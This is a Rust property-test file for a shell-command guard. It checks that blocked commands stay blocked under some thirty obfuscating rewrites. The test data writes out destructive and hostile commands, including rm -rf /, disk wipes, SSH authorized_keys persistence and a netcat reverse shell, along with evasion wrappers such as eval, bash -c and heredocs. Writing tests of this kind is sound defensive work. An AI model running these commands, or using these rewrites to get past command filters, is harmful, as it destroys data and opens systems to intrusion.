//! Property tests: obfuscating rewrites of blocked commands stay blocked; no input panics.

use proptest::prelude::*;
use tollgate_shell::{Profile, Verdict, analyze};

/// Blocked commands to rewrite. `true`: extra trailing arguments keep it blocked.
const BLOCKED: &[(&str, bool)] = &[
    ("rm -rf /", true),
    ("rm -fr ~", true),
    ("rm -r -f $HOME", true),
    ("sudo id", true),
    ("su root", false),
    ("doas ls", true),
    ("mkfs.ext4 /dev/sda1", true),
    ("dd if=/dev/zero of=/dev/sda", true),
    ("history -c", true),
    ("echo x >> ~/.bashrc", true),
    ("printf k >> ~/.ssh/authorized_keys", true),
    ("chmod -R 777 /", true),
    ("shutdown -h now", true),
    ("reboot", true),
    ("echo cm0= | base64 -d | sh", false),
    ("nc -e /bin/sh 10.0.0.1 4444", true),
    ("tee -a ~/.ssh/authorized_keys < k", true),
    ("wipefs -a /dev/sdb", true),
];

/// Single-quotes `s` for the shell.
fn squote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// Double-quotes `s` for the shell.
fn dquote(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        if matches!(c, '"' | '\\' | '$' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

/// Splits a leading plain command name off `cmd`.
fn split_name(cmd: &str) -> Option<(&str, &str)> {
    let end = cmd.find([' ', '\t']).unwrap_or(cmd.len());
    let name = &cmd[..end];
    let keyword = matches!(
        name,
        "if" | "for" | "while" | "until" | "case" | "function" | "time"
    );
    let plain = !name.is_empty()
        && !keyword
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '/'));
    plain.then(|| (name, &cmd[end..]))
}

/// Puts `wrapper` in front of `cmd`; a compound command is first made a `bash -c` string.
fn wrap(wrapper: &str, cmd: &str) -> String {
    match split_name(cmd) {
        Some(_) => format!("{wrapper} {cmd}"),
        None => format!("{wrapper} bash -c {}", squote(cmd)),
    }
}

fn rewrite(cmd: &str, how: u8, extra_ok: bool) -> String {
    match how {
        0 => match split_name(cmd) {
            Some((name, rest)) => format!("\"{name}\"{rest}"),
            None => format!("( {cmd} )"),
        },
        1 => match split_name(cmd) {
            Some((name, rest)) if name.len() > 1 => format!("{}''{}{rest}", &name[..1], &name[1..]),
            _ => format!("{{ {cmd}; }}"),
        },
        2 => match split_name(cmd) {
            Some((name, rest)) => format!("\\{name}{rest}"),
            None => format!("true && {cmd}"),
        },
        3 => wrap("env A=1", cmd),
        4 => wrap("nice -n 5", cmd),
        5 => wrap("timeout 5", cmd),
        6 => wrap("command", cmd),
        7 => wrap("nohup", cmd),
        8 => format!("echo $( {cmd} )"),
        9 => format!("x=`{cmd}`"),
        10 => format!("cat <( {cmd} )"),
        11 => format!("sh -c {}", squote(cmd)),
        12 => format!("bash -c {}", dquote(cmd)),
        13 => format!("( {cmd} )"),
        14 => format!("{{ {cmd}; }}"),
        15 => format!("true | {cmd}"),
        16 => format!("{cmd} | cat"),
        17 => format!("false || {cmd}"),
        18 => format!("if true; then {cmd}; fi"),
        19 => format!("f() {{ {cmd}; }}"),
        20 => cmd.replace(' ', "  \t "),
        21 if extra_ok => format!("{cmd} extra-arg"),
        21 => format!("  {cmd}  "),
        22 => format!("eval {}", squote(cmd)),
        23 => format!("echo {} | sh", squote(cmd)),
        24 => format!("bash <<'EOF'\n{cmd}\nEOF"),
        25 => wrap("exec", cmd),
        26 => wrap("time", cmd),
        27 => wrap("stdbuf -oL", cmd),
        28 => format!("for i in 1; do {cmd}; done"),
        _ => format!("{cmd} &"),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn obfuscating_rewrites_of_blocked_commands_stay_blocked(
        base in 0..BLOCKED.len(),
        steps in prop::collection::vec(0u8..30, 1..4),
    ) {
        let (base, mut extra_ok) = BLOCKED[base];
        let mut cmd = base.to_owned();
        for how in steps {
            cmd = rewrite(&cmd, how, extra_ok);
            extra_ok &= how == 21 || how == 20;
        }
        for profile in Profile::ALL {
            let a = analyze(&cmd, profile);
            prop_assert_eq!(a.verdict, Verdict::Block, "{} {:?}: {:?}", profile, cmd, a.findings);
        }
    }

    #[test]
    fn arbitrary_input_never_panics_and_spans_stay_in_bounds(input in ".{0,200}") {
        for profile in Profile::ALL {
            let a = analyze(&input, profile);
            let strictest = a.findings.iter().map(|f| f.verdict).max().unwrap_or(Verdict::Allow);
            prop_assert_eq!(a.verdict, strictest);
            for f in &a.findings {
                prop_assert!(input.get(f.span.clone()).is_some(), "{:?} {:?}", f, input);
            }
        }
    }

    #[test]
    fn shell_flavoured_input_never_panics(
        input in r#"([a-z]{1,4}|[ \t\n;&|<>(){}$`'"\\=~/*?\[\]!#-]|\$\(|\$\{|<<|>>|<\(|2>&1|-c |sh |rm |sudo ){0,40}"#
    ) {
        for profile in Profile::ALL {
            let a = analyze(&input, profile);
            for f in &a.findings {
                prop_assert!(input.get(f.span.clone()).is_some(), "{:?} {:?}", f, input);
            }
        }
    }
}
